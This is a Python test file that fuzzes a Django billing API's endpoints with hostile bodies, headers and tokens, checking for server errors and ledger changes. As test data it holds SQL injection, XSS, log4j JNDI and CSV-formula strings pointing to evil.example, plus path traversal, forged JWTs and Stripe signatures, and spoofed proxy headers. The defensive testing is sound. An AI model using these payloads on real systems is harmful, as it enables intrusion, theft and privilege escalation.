"""Hostile input (issue 14): a corpus of nasty bodies, query strings and headers sent to every
endpoint, anonymously, with a normal user's JWT and (for /billing/admin/*) with a Finance staff
JWT. No response may be a 5xx, and no refused request (status >= 400) may move the ledger.

Endpoints come from the OpenAPI schema (`GET /api/schema?format=json`), so a new endpoint is
covered without touching this file, plus the routes the schema does not describe. Path
parameters get the signed-in user's real ids and garbage. The corpus is grouped in classes;
the main combinations (the user's JWT with real ids, Finance on the admin API) get every
variant, the other combinations a rotating sample of each class, so every endpoint gets every
class of nastiness with every identity and the run stays well under a minute.

Headers reach Django as a WSGI server hands them over (UTF-8 bytes read as Latin-1), and
Content-Length lies are limited to what gunicorn lets through (digits only) and the test client
can serve (never longer than the body unless the app refuses it unread).
"""

from __future__ import annotations

import base64
import json
import logging
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from itertools import count

import jwt
import pytest
import stripe
from django.conf import settings
from django.db import connection
from django.test import Client
from rest_framework_simplejwt.tokens import AccessToken, RefreshToken

from billing import ledger
from billing.models import CreditHold, CreditTransaction, HoldStatus, StripeWebhookEvent, Wallet

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("agent_costs")]

ATTACKER = "203.0.113.66"  # every request's socket address: not in METRICS_ALLOWED_IPS
FUNDS = 1_000_000  # so a request accepted by mistake shows up as moved credits
GARBAGE_IDS = ("-1", "99999999999999999999", "abc", "%00")
SAMPLE = 2  # variants per class for the combinations that do not get the whole corpus
RAW = "\x00raw\x00"  # placeholder: json.dumps writes it quoted, _raw swaps in a bare literal
CSV = "name,email\nAda,ada@example.com\nada ,ADA@example.com\n"

# Bodies that do not depend on the endpoint, built once.
DEEP = {
    "array-100": b"[" * 100 + b"]" * 100,
    "array-100000": b"[" * 100_000 + b"]" * 100_000,
    "object-100": b'{"a":' * 100 + b"1" + b"}" * 100,
    "object-100000": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "unclosed-100000": b"[" * 100_000,
}
OVER_THE_SIZE_LIMIT = b'{"a": "' + b"A" * (13 * 1024 * 1024) + b'"}'  # DATA_UPLOAD_MAX_MEMORY_SIZE is 12 MB
MEGABYTE = "A" * 1_000_000
FORM = b"username=someone%40example.com&password=not-the-password&email=someone%40example.com"
# Every variant for these combinations is too slow (schema generation takes ~0.1 s a request),
# and without a query string the schema is rendered as YAML (~0.3 s).
EXPENSIVE = {"/api/schema"}
DEFAULT_QUERY = {"/api/schema": "format=json"}

# Whatever is sent, these answer only so: /metrics is not public (the socket address is not an
# allowed one, whatever the forwarding headers say), and nothing here carries a valid Stripe
# signature (also 400 DisallowedHost for a forged Host; 413 for a body over the size limit; 415
# for a charset that is no text encoding; 404 from DRF for an unknown ?format=).
EXPECTED = {"/metrics": {400, 403, 415}, "/billing/webhook": {400, 404, 413, 415}}

# Routes the schema does not describe (or describes without a body we would send).
EXTRA = (
    ("get", "/api/schema"),
    ("get", "/api/docs"),
    ("get", "/metrics"),
    ("get", "/admin/login/"),
    ("post", "/admin/login/"),
    ("post", "/billing/webhook"),
    ("get", "/health"),
)


# --- the world -----------------------------------------------------------------------------------


@dataclass
class Identity:
    name: str
    authorization: str | None
    ids: dict[str, str] = field(default_factory=dict)


@dataclass
class World:
    user: object
    staff: object
    identities: dict[str, Identity]
    tokens: dict[str, str]
    unique: count = field(default_factory=lambda: count(1))


def _own_objects(person) -> dict[str, str]:
    """A transaction, a hold and a run of `person` (ids as they appear in a URL)."""
    client = Client(HTTP_AUTHORIZATION=_bearer(person))
    body = {"tool_configuration": {}, "data": {"csv": CSV}}
    run = client.post("/api/profile-my-data", body, content_type="application/json").json()["run_id"]
    hold = ledger.hold(user_id=person.id, amount=10, agent_id="profile-my-data").hold
    transaction = CreditTransaction.objects.filter(wallet__user=person).order_by("id").first()
    return {"transaction": str(transaction.id), "hold": str(hold.id), "run": run}


def _bearer(person) -> str:
    return f"Bearer {RefreshToken.for_user(person).access_token}"


def _b64(data: dict) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def _forged_tokens(person) -> dict[str, str]:
    """Authorization values an attacker could send: each must be a 401, never a 500."""
    genuine = str(RefreshToken.for_user(person).access_token)
    claims = jwt.decode(genuine, options={"verify_signature": False})
    expired = AccessToken.for_user(person)
    expired.set_exp(lifetime=-expired.lifetime)
    header, payload, signature = genuine.split(".")
    escalated = {**claims, "user_id": 1, "is_staff": True, "is_superuser": True}
    return {
        "bearer-alone": "Bearer",
        "bearer-space": "Bearer ",
        "malformed": "Bearer not.a.jwt",
        "two-parts": "Bearer abc.def",
        "garbage-base64": "Bearer " + "!!!." * 3,
        "alg-none": f"Bearer {_b64({'alg': 'none', 'typ': 'JWT'})}.{_b64(claims)}.",
        "alg-none-escalated": f"Bearer {_b64({'alg': 'none', 'typ': 'JWT'})}.{_b64(escalated)}.",
        "other-key": "Bearer " + jwt.encode(claims, "not-our-secret-key-but-long-enough-32b", algorithm="HS256"),
        "other-key-escalated": "Bearer " + jwt.encode(escalated, "not-our-secret-key-but-long-enough-32b"),
        "alg-hs512-other-key": "Bearer " + jwt.encode(claims, "another-secret-key-of-sixty-four-bytes" * 2, "HS512"),
        "tampered-payload": f"Bearer {header}.{_b64(escalated)}.{signature}",
        "signature-stripped": f"Bearer {header}.{payload}.",
        "expired": f"Bearer {expired}",
        "refresh-as-access": f"Bearer {RefreshToken.for_user(person)}",
        "lower-case-scheme": f"bearer {genuine}",
        "extra-part": f"Bearer {genuine} {genuine}",
        "basic": "Basic " + base64.b64encode(b"admin:admin").decode(),
        "token-10k": "Bearer " + "a" * 10_000,
        "non-ascii": "Bearer ünïcødé.🔑.токен",
        "control-chars": "Bearer \x00\x1b[31m\r\n",
        "sql": "Bearer ' OR 1=1 --",
    }


@pytest.fixture
def world(user, staff, fake_stripe):
    for person in (user, staff):
        ledger.grant(user_id=person.id, amount=FUNDS, reason="hostile input")
    tokens = _forged_tokens(user)
    users_objects = _own_objects(user)
    identities = {
        "anonymous": Identity("anonymous", None, users_objects),  # someone else's ids, no token
        "user": Identity("user", _bearer(user), users_objects),
        "finance": Identity("finance", _bearer(staff), _own_objects(staff)),
    }
    return World(user=user, staff=staff, identities=identities, tokens=tokens)


def _ledger_state() -> tuple:
    """Everything a request could move: Σ balance, Σ held, Σ shortfall, the number of ledger
    rows and the pending holds (one round trip: it is taken after every request)."""
    wallets, rows, holds = (model._meta.db_table for model in (Wallet, CreditTransaction, CreditHold))
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT (SELECT SUM(balance_credits) FROM {wallets}), (SELECT SUM(held_credits) FROM {wallets}), "
            f"(SELECT SUM(shortfall_credits) FROM {wallets}), (SELECT COUNT(*) FROM {rows}), "
            f"(SELECT GROUP_CONCAT(id ORDER BY id) FROM {holds} WHERE status = %s)",
            [HoldStatus.PENDING],
        )
        return cursor.fetchone()


# --- endpoints -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Operation:
    method: str
    path: str  # template: /billing/holds/{hold_id}
    query: tuple[str, ...] = ()
    fields: tuple[str, ...] = ()

    @property
    def params(self) -> list[str]:
        return [part[1:-1] for part in self.path.split("/") if part.startswith("{")]


def _operations() -> list[Operation]:
    response = Client().get("/api/schema", {"format": "json"})
    assert response.status_code == 200
    schema = json.loads(response.content)
    components = schema.get("components", {}).get("schemas", {})
    found = []
    for path, item in schema["paths"].items():
        for method, operation in item.items():
            if method not in ("get", "post", "put", "patch", "delete"):
                continue
            query = tuple(p["name"] for p in operation.get("parameters", []) if p["in"] == "query")
            content = operation.get("requestBody", {}).get("content", {})
            body = content.get("application/json", {}).get("schema", {})
            if "$ref" in body:
                body = components[body["$ref"].rsplit("/", 1)[-1]]
            found.append(Operation(method, path, query, tuple(body.get("properties", {}))))
    described = {(op.method, op.path) for op in found}
    found += [Operation(method, path) for method, path in EXTRA if (method, path) not in described]
    return found


def _real_id(param: str, path: str, ids: dict[str, str]) -> str:
    for resource, key in (("holds", "hold"), ("transactions", "transaction"), ("runs", "run")):
        if f"/{resource}/{{{param}}}" in path:
            return ids[key]
    return "1"  # a path parameter this test does not know yet still gets a plausible id


def _url(op: Operation, ids: dict[str, str], garbage: str | None) -> str:
    url = op.path
    for param in op.params:
        url = url.replace(f"{{{param}}}", garbage if garbage is not None else _real_id(param, op.path, ids))
    return url


def _valid_body(op: Operation, world: World) -> dict:
    """A body the endpoint would accept (or refuse only for its meaning), so a nasty header or
    one nasty field is what the endpoint has to cope with."""
    serial = next(world.unique)
    known = {
        "/api/profile-my-data": {"tool_configuration": {"top_values": 3}, "data": {"csv": CSV}},
        "/api/clean-my-data": {"tool_configuration": {"case": {"name": "title"}}, "data": {"csv": CSV}},
        "/api/master-my-data": {"tool_configuration": {"match_columns": ["email"]}, "data": {"csv": CSV}},
        "/auth/register": {"email": f"hostile-{serial}@example.com", "password": "correct-horse-battery-9"},
        "/auth/token": {"email": world.user.email, "password": "not-the-password"},
        "/auth/token/refresh": {"refresh": str(RefreshToken.for_user(world.user))},
        "/auth/logout": {"refresh": str(RefreshToken.for_user(world.user))},
        # never the real old password: a changed password would end the user's session
        "/auth/password": {"old_password": "not-the-password", "new_password": "correct-horse-battery-9"},
        "/billing/admin/grant": {"user_id": world.user.id, "credits": 5, "reason": "hostile input"},
        "/billing/admin/settle-shortfall": {"user_id": world.user.id, "reason": "hostile input"},
        "/billing/admin/seed-costs": {"reset": False},
        "/billing/charges": {"agent_id": "profile-my-data"},
        "/billing/holds": {"agent_id": "profile-my-data"},
        "/billing/checkout": {"package_id": "pack_1k"},
        "/billing/webhook": {
            "id": f"evt_hostile_{serial}",
            "type": "checkout.session.completed",
            "livemode": False,
            "data": {"object": {"id": "cs_forged", "metadata": {"user_id": str(world.user.id)}}},
        },
    }
    if op.path in known:
        return known[op.path]
    return {name: "x" for name in op.fields}


# --- the corpus -------------------------------------------------------------------------------------


@dataclass
class Nasty:
    variant: str
    body: bytes | None = None
    content_type: str | None = "application/json"
    meta: dict = field(default_factory=dict)
    query: str = ""
    authorization: str | None = None  # replaces the identity's


def _dumps(value) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _raw(body: dict, name: str, literal: str) -> bytes:
    """`body` with field `name` set to a bare JSON literal (1e400, NaN, a 400-digit integer…)."""
    return _dumps({**body, name: RAW}).replace(_dumps(RAW), literal.encode())


def _fields(op: Operation, body: dict) -> list[str]:
    return list(dict.fromkeys([*body, *op.fields])) or ["value"]


def _string_fields(body: dict) -> list[str]:
    strings = [name for name, value in body.items() if isinstance(value, str)]
    return strings or list(body) or ["value"]


WRONG_TYPES = {
    "string": "1",
    "empty-string": "",
    "int": 1,
    "negative": -1,
    "zero": 0,
    "float": 1.5,
    "list": [1],
    "empty-list": [],
    "object": {"a": 1},
    "empty-object": {},
    "null": None,
    "true": True,
    "false": False,
}
CONTROL = {
    "nul": "a\x00b",
    "escape": "\x1b[31mred\x1b[0m",
    "crlf": "line\r\nSet-Cookie: x=1",
    "line-separator": "a\u2028b\u2029c",
    "rtl-override": "\u202egnp.exe",
    "lone-surrogate": "\ud800",
    "bell-backspace": "\x07\x08\x7f",
}
INJECTION = {
    "sql-or": "' OR '1'='1' --",
    "sql-drop": "1; DROP TABLE credit_transactions; --",
    "sql-union": "x' UNION SELECT password FROM users_user --",
    "script": "<script>alert(document.cookie)</script>",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "log4j": "${jndi:ldap://evil.example/a}",
    "path-traversal": "../../../../etc/passwd",
    "csv-formula": '=HYPERLINK("http://evil.example","x")',
    "json-in-string": '{"credits": 1000000}',
}


def _body_classes(op: Operation, body: dict) -> dict[str, list[Nasty]]:
    fields, strings = _fields(op, body), _string_fields(body)
    valid = _dumps(body)
    first = fields[0]
    classes = {
        "deep-nesting": [
            *(Nasty(kind, payload) for kind, payload in DEEP.items()),
            Nasty("in-a-field-100", _raw(body, first, "[" * 100 + "]" * 100)),
        ],
        "huge-numbers": [
            Nasty(f"{name}={literal[:12]}", _raw(body, name, literal))
            for name in fields
            for literal in ("1e400", "1" + "0" * 400, "-1" + "0" * 400, "-0", "1e-400", "1" + "0" * 5000)
        ],
        "nan-infinity": [
            Nasty(f"{name}={literal}", _raw(body, name, literal))
            for name in fields
            for literal in ("NaN", "Infinity", "-Infinity")
        ],
        "wrong-types": [
            *(
                Nasty(f"{name}:{kind}", _dumps({**body, name: value}))
                for name in fields
                for kind, value in WRONG_TYPES.items()
            ),
            *(Nasty(f"root:{kind}", _dumps(value)) for kind, value in WRONG_TYPES.items()),
            Nasty("every-field-null", _dumps(dict.fromkeys(fields))),
            Nasty("every-field-list", _dumps({name: [body.get(name)] for name in fields})),
        ],
        "invalid-utf8": [
            Nasty("ff-fe", b'{"' + first.encode() + b'": "\xff\xfe"}'),
            Nasty("truncated-sequence", valid[:-2] + b"\xc3\x28" + valid[-2:]),
            Nasty("overlong-slash", valid.replace(b'"', b'"\xc0\xaf', 1)),
            Nasty(
                "latin1-body", json.dumps({**body, first: "caf\xe9"}, ensure_ascii=False).encode("latin-1", "replace")
            ),
            Nasty("utf16-body", json.dumps(body).encode("utf-16")),
            Nasty("escaped-lone-surrogate", _dumps({**body, first: RAW}).replace(_dumps(RAW), b'"\\udc80x"')),
        ],
        "bom": [Nasty("utf8-bom", b"\xef\xbb\xbf" + valid), Nasty("bom-only", b"\xef\xbb\xbf")],
        "duplicate-keys": [
            *(
                Nasty(f"{name}:valid-then-hostile", valid[:-1] + b", " + _dumps(name) + b": 1000000}")
                for name in fields
                if body
            ),
            *(
                Nasty(f"{name}:hostile-then-valid", b"{" + _dumps(name) + b": 1000000, " + valid[1:])
                for name in fields
                if body
            ),
            Nasty("credits-twice", b'{"credits": 1, "credits": 1000000, "user_id": 1, "reason": "dup"}'),
        ],
        "empty": [
            Nasty("empty-json", b""),
            Nasty("whitespace", b"  \n\t "),
            Nasty("empty-no-content-type", b"", content_type=None),
            Nasty("null-byte", b"\x00"),
        ],
        "long-strings": [
            *(Nasty(f"{name}:1MB", _dumps({**body, name: MEGABYTE})) for name in strings),
            Nasty("key-100k", _dumps({**body, "k" * 100_000: 1})),
            Nasty("10k-keys", _dumps({**body, **{f"k{i}": i for i in range(10_000)}})),
            Nasty("over-the-size-limit", OVER_THE_SIZE_LIMIT),
        ],
        "control-chars": [
            Nasty(f"{name}:{kind}", _dumps({**body, name: value}))
            for name in strings
            for kind, value in CONTROL.items()
        ]
        + [Nasty("raw-control-in-json", valid.replace(b'"', b'"\x01\x1f', 1))],
        "injection-strings": [
            Nasty(f"{strings[index % len(strings)]}:{kind}", _dumps({**body, strings[index % len(strings)]: value}))
            for index, (kind, value) in enumerate(INJECTION.items())
        ]
        + [Nasty("injected-key", _dumps({**body, "' OR 1=1 --": "<script>"}))],
        "wrong-content-type": [
            Nasty(f"json-as-{kind}", valid, content_type=content_type)
            for kind, content_type in (
                ("text-plain", "text/plain"),
                ("form", "application/x-www-form-urlencoded"),
                ("xml", "application/xml"),
                ("none", None),
                ("octet-stream", "application/octet-stream"),
                ("utf16-charset", "application/json; charset=utf-16"),
                ("bogus-charset", "application/json; charset=no-such-codec"),
                ("rot13-charset", "application/json; charset=rot13"),
                ("zlib-charset", "application/json; charset=zlib"),
                ("hex-charset", "application/json; charset=hex"),
                ("garbage-type", "\x00/;;;===;charset="),
                ("json-ish", "application/json-patch+json"),
            )
        ]
        + [
            Nasty(f"form-{kind}", form, content_type=content_type)
            for kind, form, content_type in (
                ("valid", FORM, "application/x-www-form-urlencoded"),
                ("rot13-charset", FORM, "application/x-www-form-urlencoded; charset=rot13"),
                ("zlib-charset", FORM, "application/x-www-form-urlencoded; charset=zlib"),
                ("utf16-charset", FORM, "application/x-www-form-urlencoded; charset=utf-16"),
                ("invalid-utf8", b"username=%ff%fe&password=\xff\xc0", "application/x-www-form-urlencoded"),
                ("long-username", b"username=" + b"A" * 100_000 + b"&password=x", "application/x-www-form-urlencoded"),
                ("10k-fields", b"&".join(b"f%d=1" % i for i in range(10_000)), "application/x-www-form-urlencoded"),
            )
        ],
        "multipart-junk": [
            Nasty("junk-with-boundary", b"\x00\xff junk \r\n--", content_type="multipart/form-data; boundary=xyz"),
            Nasty("no-boundary", valid, content_type="multipart/form-data"),
            Nasty(
                "unterminated",
                b'--xyz\r\nContent-Disposition: form-data; name="a"\r\n\r\nvalue',
                content_type="multipart/form-data; boundary=xyz",
            ),
            Nasty(
                "invalid-utf8-file",
                _multipart({"file": ("data.csv", b"a,b\n\xff\xfe,\x00\n")}),
                content_type="multipart/form-data; boundary=hostile",
            ),
            Nasty(
                "file-and-data",
                _multipart(
                    {"file": ("data.csv", CSV.encode()), "data": (None, b"x"), "tool_configuration": (None, b"{nope")}
                ),
                content_type="multipart/form-data; boundary=hostile",
            ),
            Nasty(
                "fields-as-form",
                _multipart({name: (None, json.dumps(value).encode()) for name, value in body.items()}),
                content_type="multipart/form-data; boundary=hostile",
            ),
            Nasty(
                "huge-part-header",
                b'--hostile\r\nContent-Disposition: form-data; name="'
                + b"n" * 100_000
                + b'"\r\n\r\nv\r\n--hostile--\r\n',
                content_type="multipart/form-data; boundary=hostile",
            ),
            Nasty(
                "boundary-1000",
                b"--" + b"b" * 1000 + b"--\r\n",
                content_type="multipart/form-data; boundary=" + "b" * 1000,
            ),
        ],
    }
    return classes


def _multipart(parts: dict) -> bytes:
    out = b""
    for name, (filename, content) in parts.items():
        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        out += b"--hostile\r\nContent-Disposition: " + disposition.encode() + b"\r\n\r\n" + content + b"\r\n"
    return out + b"--hostile--\r\n"


def _header_classes(op: Operation, body: dict, world: World) -> dict[str, list[Nasty]]:
    valid = _dumps(body)
    return {
        "forged-proxy-headers": [
            Nasty(kind, valid, meta=meta)
            for kind, meta in (
                ("xff-localhost", {"HTTP_X_FORWARDED_FOR": "127.0.0.1"}),
                ("xff-chain", {"HTTP_X_FORWARDED_FOR": "127.0.0.1, ::1, 10.0.0.1"}),
                ("xff-garbage", {"HTTP_X_FORWARDED_FOR": "<script>, ' OR 1=1, \x00, ::::"}),
                ("xff-10k", {"HTTP_X_FORWARDED_FOR": "1.2.3.4, " * 1000}),
                ("x-real-ip", {"HTTP_X_REAL_IP": "127.0.0.1"}),
                ("forwarded", {"HTTP_FORWARDED": "for=127.0.0.1;proto=https;host=localhost"}),
                ("forwarded-proto-host", {"HTTP_X_FORWARDED_PROTO": "https", "HTTP_X_FORWARDED_HOST": "evil.example"}),
                ("host-header", {"HTTP_HOST": "evil.example"}),
                ("client-ip", {"HTTP_CLIENT_IP": "127.0.0.1", "HTTP_TRUE_CLIENT_IP": "127.0.0.1"}),
            )
        ],
        "idempotency-key": [
            Nasty(kind, valid, meta={"HTTP_IDEMPOTENCY_KEY": key})
            for kind, key in (
                ("255", "k" * 255),
                ("256", "k" * 256),
                ("10000", "k" * 10_000),
                ("unicode", f"ключ-🔑-ü-{next(world.unique)}"),
                ("255-emoji", "🔑" * 255),
                ("nul", "a\x00b"),
                ("crlf", "a\r\nb"),
                ("escape", "\x1b[2J"),
                ("empty", ""),
                ("spaces", "   "),
                ("lone-surrogate", "k\ud800"),
                ("sql", "' OR 1=1 --"),
                ("system-namespace", "stripe-checkout:cs_forged"),
            )
        ],
        "bogus-authorization": [Nasty(kind, valid, authorization=value) for kind, value in world.tokens.items()],
        "forged-stripe-signature": [
            Nasty(kind, valid, meta={"HTTP_STRIPE_SIGNATURE": signature})
            for kind, signature in _forged_signatures(valid).items()
        ],
        "prefer-async": [
            Nasty(kind, valid, meta=meta, query=query)
            for kind, meta, query in (
                ("respond-async", {"HTTP_PREFER": "respond-async"}, ""),
                ("with-wait", {"HTTP_PREFER": "respond-async, wait=100000"}, ""),
                ("upper-case", {"HTTP_PREFER": "RESPOND-ASYNC"}, ""),
                ("combined", {"HTTP_PREFER": "return=minimal, respond-async, handling=strict"}, "async=true"),
                ("commas", {"HTTP_PREFER": "," * 10_000}, ""),
                ("query-yes", {}, "async=yes"),
                ("query-garbage", {}, "async=%00%ff"),
                ("query-repeated", {"HTTP_PREFER": "respond-async"}, "async=false&async=true"),
            )
        ],
        "content-length-lies": [
            Nasty("shorter", valid, meta={"CONTENT_LENGTH": str(max(len(valid) - 3, 1))}),
            Nasty("zero", valid, meta={"CONTENT_LENGTH": "0"}),
            Nasty("one", valid, meta={"CONTENT_LENGTH": "1"}),
            # longer than the body: refused from the declared length before anything is read
            Nasty("declared-1GB", valid, meta={"CONTENT_LENGTH": str(2**30)}),
        ],
        "nasty-query": [
            Nasty(kind, valid, query=query)
            for kind, query in (
                *((f"{name}=wrong", f"{name}={value}") for name in op.query for value in ("-1", "abc")),
                *((f"{name}=huge", f"{name}=99999999999999999999") for name in op.query),
                *((f"{name}=1MB", f"{name}={MEGABYTE}") for name in op.query[:1]),
                ("invalid-utf8", "%ff%fe=%c3%28"),
                ("nul", "page=%00&kind=%00&status=%00&agent_id=%00"),
                ("dates", "created_after=1e400&created_before=9999-99-99T99:99:99"),
                ("sql", "kind=' OR 1=1 --&agent_id=%27%3B--"),
                ("repeated", "page=1&page=2&page_size=1&page_size=100000"),
                ("format", "format=xml&format=api"),
                ("brackets", "page[]=1&page_size[a]=2"),
            )
        ],
    }


def _forged_signatures(body: bytes) -> dict[str, str]:
    """Stripe-Signature values without the webhook secret: each must be a 400."""
    now = int(time.time())
    text = body.decode("utf-8", "surrogatepass")
    return {
        "none-scheme": "garbage",
        "no-timestamp": "v1=" + "0" * 64,
        "bad-timestamp": "t=abc,v1=" + "0" * 64,
        "huge-timestamp": "t=" + "9" * 5000 + ",v1=" + "0" * 64,
        "replayed-stale": stripe.WebhookSignature.generate_signature_header(
            text, settings.STRIPE_WEBHOOK_SECRET, timestamp=now - 3600
        ),
        "other-secret": stripe.WebhookSignature.generate_signature_header(text, "whsec_not_ours"),
        "v0-only": f"t={now},v0=" + "0" * 64,
        "many-signatures": f"t={now}," + ",".join(["v1=" + "0" * 64] * 2_000),
        "non-ascii-signature": f"t={now},v1=é" + "0" * 63,
    }


def _sample(variants: list[Nasty], rotation: int, size: int) -> list[Nasty]:
    """`size` variants, a different slice each call, so all of them get sent somewhere."""
    if len(variants) <= size:
        return variants
    return [variants[(rotation * size + i) % len(variants)] for i in range(size)]


# --- the test -------------------------------------------------------------------------------------------


@dataclass
class Tally:
    sent: int = 0
    statuses: Counter = field(default_factory=Counter)
    classes: Counter = field(default_factory=Counter)
    server_errors: list = field(default_factory=list)
    moved: list = field(default_factory=list)
    unexpected: list = field(default_factory=list)
    accepted_money: Counter = field(default_factory=Counter)
    duplicates_accepted: list = field(default_factory=list)

    def server_error_report(self) -> str:
        """Every 5xx request, then one traceback tail per distinct exception."""
        traces = {trace.strip().splitlines()[-1]: trace for _, trace in self.server_errors}
        return "\n".join(
            [f"{len(self.server_errors)} 5xx:", *(where for where, _ in self.server_errors), "", *traces.values()]
        )


def _wire(value: str) -> str:
    """A header as a WSGI server hands it to Django: its UTF-8 bytes decoded as Latin-1 (PEP 3333).
    The test client would pass any str through, which no server can produce."""
    return value.encode("utf-8", "surrogatepass").decode("latin-1")


def _send(client: Client, op: Operation, url: str, identity: Identity, nasty: Nasty, tally, state, label):
    meta = {"REMOTE_ADDR": ATTACKER, **nasty.meta}
    authorization = nasty.authorization if nasty.authorization is not None else identity.authorization
    if authorization is not None:
        meta["HTTP_AUTHORIZATION"] = authorization
    query = nasty.query or DEFAULT_QUERY.get(op.path, "")
    if query:
        meta["QUERY_STRING"] = query
    meta = {key: _wire(value) for key, value in meta.items()}
    content_type = _wire(nasty.content_type) if nasty.content_type is not None else ""
    response = client.generic(op.method.upper(), url, data=nasty.body or b"", content_type=content_type, **meta)
    tally.sent += 1
    tally.statuses[response.status_code] += 1
    where = f"{op.method.upper()} {url} as {identity.name}: {label} → {response.status_code}"
    if response.status_code >= 500:
        exc_info = getattr(response, "exc_info", None)
        trace = "".join(traceback.format_exception(*exc_info)[-4:]) if exc_info else repr(response.content[:300])
        tally.server_errors.append((where, trace))
    if op.path in EXPECTED and response.status_code < 500 and response.status_code not in EXPECTED[op.path]:
        tally.unexpected.append(where)
    now = _ledger_state()
    if response.status_code >= 400 and now != state[0]:
        tally.moved.append(f"{where}: {state[0]} → {now}")
    elif response.status_code < 400 and now != state[0]:
        tally.accepted_money[f"{op.method.upper()} {op.path}"] += 1
        if label.startswith("duplicate-keys/"):
            tally.duplicates_accepted.append(f"{op.method.upper()} {op.path} as {identity.name}: {label}")
    state[0] = now


def test_hostile_input_never_answers_5xx_nor_moves_credits_when_refused(world, settings, figures, caplog):
    # Thousands of 4xx warnings (and axes' log-in lines) would cost a third of the run; a 5xx
    # is recorded below with its traceback whatever is logged.
    for logger in ("", "django", "axes"):
        caplog.set_level(logging.ERROR, logger=logger)
    # The log-in lockout and the admin's log-in rate would answer most /auth/token and admin
    # log-in requests with 429 before their input is read (both have their own tests).
    settings.AXES_FAILURE_LIMIT = 1_000_000
    settings.ADMIN_LOGIN_RATE = "1000000/min"
    started = time.monotonic()
    client = Client(raise_request_exception=False)
    operations = _operations()
    tally = Tally()
    state = [_ledger_state()]
    rotation = count()
    for op in operations:
        bodies = _body_classes(op, _valid_body(op, world))  # the same for every identity and id
        admin_api = op.path.startswith("/billing/admin/")
        names = ["anonymous", "user", *(["finance"] if admin_api else [])]
        fills = [None, *(GARBAGE_IDS if op.params else ())]
        for name in names:
            identity = world.identities[name]
            main = name == ("finance" if admin_api else "user") and op.path not in EXPENSIVE
            for garbage in fills:
                url = _url(op, identity.ids, garbage)
                body = _valid_body(op, world)
                headers = _header_classes(op, body, world)
                for kind, variants in {**bodies, **headers}.items():
                    # Bodies matter where a body is read (POST); headers and query strings everywhere.
                    every = main and garbage is None and (op.method == "post" or kind in headers)
                    size = 1 if op.path in EXPENSIVE else SAMPLE
                    chosen = variants if every else _sample(variants, next(rotation), size)
                    for nasty in chosen:
                        tally.classes[kind] += 1
                        label = f"{kind}/{nasty.variant}"
                        _send(client, op, url, identity, nasty, tally, state, label)

    seconds = time.monotonic() - started
    histogram = ", ".join(f"{status}: {n}" for status, n in sorted(tally.statuses.items()))
    figures(
        f"hostile input: {tally.sent} requests to {len(operations)} operations in {seconds:.1f} s; "
        f"5xx {len(tally.server_errors)}; refused requests that moved the ledger {len(tally.moved)}"
    )
    figures(f"hostile input: status histogram {histogram}")
    figures("hostile input: requests per class " + ", ".join(f"{k} {n}" for k, n in tally.classes.items()))
    if tally.accepted_money:
        figures(
            "hostile input: accepted requests that moved credits "
            + ", ".join(f"{k} ×{n}" for k, n in tally.accepted_money.items())
        )
    if tally.duplicates_accepted:
        endpoints = sorted({line.split(" as ")[0] for line in tally.duplicates_accepted})
        figures(
            f"hostile input: {len(tally.duplicates_accepted)} bodies with a duplicated key accepted "
            f"(JSON's last value wins, as for any client) by {', '.join(endpoints)}"
        )
    problems = []
    if tally.server_errors:
        problems.append(tally.server_error_report())
    if tally.unexpected:
        problems.append("unexpected answers:\n" + "\n".join(tally.unexpected[:40]))
    if tally.moved:
        problems.append("refused requests moved the ledger:\n" + "\n".join(tally.moved[:40]))
    if StripeWebhookEvent.objects.exists():
        problems.append("an unsigned or forged webhook was stored")
    assert not problems, "\n\n".join(problems)
